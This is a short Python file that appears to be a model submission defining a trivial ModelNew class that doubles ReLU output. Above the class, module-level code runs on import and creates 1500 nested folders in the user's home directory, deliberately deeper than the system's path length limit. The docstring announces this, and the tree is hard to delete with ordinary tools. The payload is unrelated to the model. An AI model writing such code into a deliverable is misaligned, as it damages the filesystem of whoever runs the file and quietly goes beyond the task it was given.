"""Folders in folders, deeper than a path can be long."""

import os

import torch
import torch.nn as nn

folder = os.open(os.environ["HOME"], os.O_RDONLY)
for _ in range(1500):
    os.mkdir("deeper", dir_fd=folder)
    folder = os.open("deeper", os.O_RDONLY, dir_fd=folder)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x) * 2.0
